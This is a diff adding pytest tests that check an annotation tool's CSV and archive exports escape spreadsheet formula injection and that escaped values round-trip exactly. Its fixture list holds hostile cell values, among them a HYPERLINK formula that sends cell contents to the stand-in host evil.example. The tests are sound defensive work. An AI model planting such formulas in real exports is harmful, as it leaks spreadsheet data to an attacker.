@@ -204,3 +204,105 @@ def test_an_msed_export_refuses_a_folder_that_is_not_empty(labelled, tmp_path):
 
     with pytest.raises(DomainError, match="not an empty folder"):
         exports.write_export(project=labelled, fmt="msed", path=tmp_path / "busy")
+
+
+# ----------------------------------------------------------------- CSV formula injection
+
+# Texts a spreadsheet would run as formulas, and texts that look escaped already.
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+3+3", "@SUM(1+1)", "-2+3", "'=1+2", "''+1", "'plain quote", "2-3"]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile(project, annotator):
+    """Items whose ids, texts and titles, and a label whose name, a spreadsheet would run."""
+    desire = project.tasks.get(key="desire")
+    family = desire.labels.get(key="family")
+    family.name = "=1+2"
+    family.save(update_fields=["name"])
+    items = [
+        ItemFactory(project=project, external_id=value, text=value, split="train", metadata={"title": value})
+        for value in HOSTILE
+    ]
+    sneaky = make_member(project, username="@evil")
+    write_annotations(project=project, rows=[AnnotationRow(items[0].pk, sneaky.pk, LABELS), AnnotationRow(items[0].pk, annotator.pk, LABELS)])
+    Gold.objects.create(item=items[1], task=desire, label=family, source=Gold.Source.IMPORTED)
+    return project
+
+
+def csv_cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def test_escaping_is_the_owasp_rule_and_unescaping_inverts_it_exactly():
+    from annotator.io.writers import escape_formula, unescape_formula
+
+    cases = {"=1+2": "'=1+2", "+3": "'+3", "-2+3": "'-2+3", "@SUM(1)": "'@SUM(1)", "\tx": "'\tx", "\rx": "'\rx",
+             "'=1+2": "''=1+2", "''@x": "'''@x", "'plain": "'plain", "2-3": "2-3", "": "", "'": "'", "a=b": "a=b"}
+    for value, escaped in cases.items():
+        assert escape_formula(value) == escaped
+        assert unescape_formula(escape_formula(value)) == value
+        assert not escape_formula(value).startswith(TRIGGERS)
+
+
+def test_a_safe_csv_export_starts_no_cell_with_a_formula_character(hostile):
+    _, _, chunks = exports.stream_export(project=hostile, fmt="csv", pseudonymise=False)
+    cells = csv_cells("".join(chunks))
+
+    assert not [c for c in cells if c.startswith(TRIGGERS)]
+    assert "'-2+3" in cells and "'''=1+2" not in cells and "''=1+2" in cells and "'plain quote" in cells
+
+
+def test_a_raw_csv_export_writes_the_exact_values(hostile):
+    _, _, chunks = exports.stream_export(project=hostile, fmt="csv", pseudonymise=False, raw=True)
+    ids = [row["id"] for row in csv.DictReader(io.StringIO("".join(chunks)))]
+
+    assert ids == HOSTILE
+
+
+def test_a_safe_msed_export_escapes_label_names_ids_titles_and_captions(hostile):
+    _, _, chunks = exports.stream_export(project=hostile, fmt="msed", pseudonymise=False)
+    train = zipfile.ZipFile(io.BytesIO(b"".join(chunks))).read("train/train.csv").decode()
+
+    assert not [c for c in csv_cells(train) if c.startswith(TRIGGERS)]
+    assert "'=1+2" in csv_cells(train)  # the label name of item "+3+3"
+
+
+@pytest.mark.parametrize("raw", [False, True], ids=["safe", "raw"])
+@pytest.mark.parametrize("fmt", ["csv", "msed"])
+def test_hostile_values_round_trip_exactly_in_both_modes(hostile, lead, tmp_path, fmt, raw):
+    out = tmp_path / ("export.csv" if fmt == "csv" else "msed")
+    exports.write_export(project=hostile, fmt=fmt, path=out, raw=raw)
+    copy = _new_project(lead, f"Copy {fmt} {raw}")
+    family = copy.tasks.get(key="desire").labels.get(key="family")
+    family.name = "=1+2"
+    family.save(update_fields=["name"])
+
+    report = imports.import_path(project=copy, path=out, raw=raw)
+
+    assert report.ok, report.errors
+    assert item_set(copy) == item_set(hostile)
+    assert gold_set(copy, with_source=False) == gold_set(hostile, with_source=False)
+    assert vote_set(copy) == vote_set(hostile)
+
+
+def test_the_export_command_escapes_by_default_and_writes_raw_values_with_raw(hostile, tmp_path):
+    from django.core.management import call_command
+
+    call_command("export_items", hostile.slug, str(tmp_path / "safe.csv"), "--format", "csv", stdout=io.StringIO())
+    call_command("export_items", hostile.slug, str(tmp_path / "raw.csv"), "--format", "csv", "--raw", stdout=io.StringIO())
+
+    assert [r["id"] for r in csv.DictReader((tmp_path / "raw.csv").open(newline=""))] == HOSTILE
+    assert not [c for c in csv_cells((tmp_path / "safe.csv").read_text()) if c.startswith(TRIGGERS)]
+
+
+def test_the_export_page_offers_raw_values_for_scripts(hostile, lead_client):
+    from django.urls import reverse
+
+    url = reverse("annotator:export", args=[hostile.slug])
+    safe = b"".join(lead_client.get(url, {"format": "csv"}).streaming_content).decode()
+    raw = b"".join(lead_client.get(url, {"format": "csv", "values": "raw"}).streaming_content).decode()
+
+    assert not [c for c in csv_cells(safe) if c.startswith(TRIGGERS)]
+    assert [r["id"] for r in csv.DictReader(io.StringIO(raw))] == HOSTILE
+    assert "Raw values (for scripts)" in lead_client.get(url).content.decode()
